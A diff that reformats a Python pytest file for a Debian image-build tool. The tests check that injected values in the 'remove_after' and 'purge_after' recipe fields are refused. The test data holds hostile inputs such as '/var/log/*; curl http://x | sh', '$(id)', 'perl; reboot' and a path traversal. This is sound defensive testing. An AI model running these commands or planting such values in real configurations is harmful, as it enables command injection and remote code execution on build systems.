@@ -8,11 +8,11 @@ from pathlib import Path
 
 import pytest
 
+from hubforge.errors import HubforgeError
 from hubforge.imagebuild import debs
 from hubforge.imagebuild.base import Workspace, mmdebstrap_argv
 from hubforge.imagebuild.lockfiles import requested_packages
 from hubforge.imagebuild.targets import BaseSpec
-from hubforge.errors import HubforgeError
 
 WORK = Workspace(Path("/tmp/w/trusted/debian-archive.gpg"), Path("/tmp/w/repo"), Path("/tmp/w/report"))
 
@@ -29,19 +29,32 @@ def test_the_committed_recipe_and_apt_ins_pass():
         assert requested_packages(apt_in)
 
 
-@pytest.mark.parametrize("entry", [
-    "/var/log/*; curl http://x | sh", "/var/log/$(id)", "/var/log/`id`", "var/log/*", "/var/../../etc", "/a b",
-    "/var/log/*\nreboot", '/var/log/"',
-])
+@pytest.mark.parametrize(
+    "entry",
+    [
+        "/var/log/*; curl http://x | sh",
+        "/var/log/$(id)",
+        "/var/log/`id`",
+        "var/log/*",
+        "/var/../../etc",
+        "/a b",
+        "/var/log/*\nreboot",
+        '/var/log/"',
+    ],
+)
 def test_a_remove_after_entry_that_is_not_a_plain_path_is_refused(entry):
     with pytest.raises(HubforgeError) as refused:
         mmdebstrap_argv(SPEC, {**RECIPE, "remove_after": [entry]}, Path("/tmp/out.tar"), WORK)
-    assert f"remove_after entry {entry!r}" in str(refused.value) and "\n" not in str(refused.value).replace(repr(entry), "")
+    assert f"remove_after entry {entry!r}" in str(refused.value) and "\n" not in str(refused.value).replace(
+        repr(entry), ""
+    )
 
 
 @pytest.mark.parametrize("name", ["perl; reboot", "$(id)", "perl|sh", "-rf", "Perl"])
 def test_a_purge_after_name_that_is_not_a_package_is_refused(name):
-    with pytest.raises(HubforgeError, match=r"^images/base/bootstrap.json purge_after: .* is not a Debian package name"):
+    with pytest.raises(
+        HubforgeError, match=r"^images/base/bootstrap.json purge_after: .* is not a Debian package name"
+    ):
         mmdebstrap_argv(SPEC, {**RECIPE, "purge_after": [name]}, Path("/tmp/out.tar"), WORK)
 
 
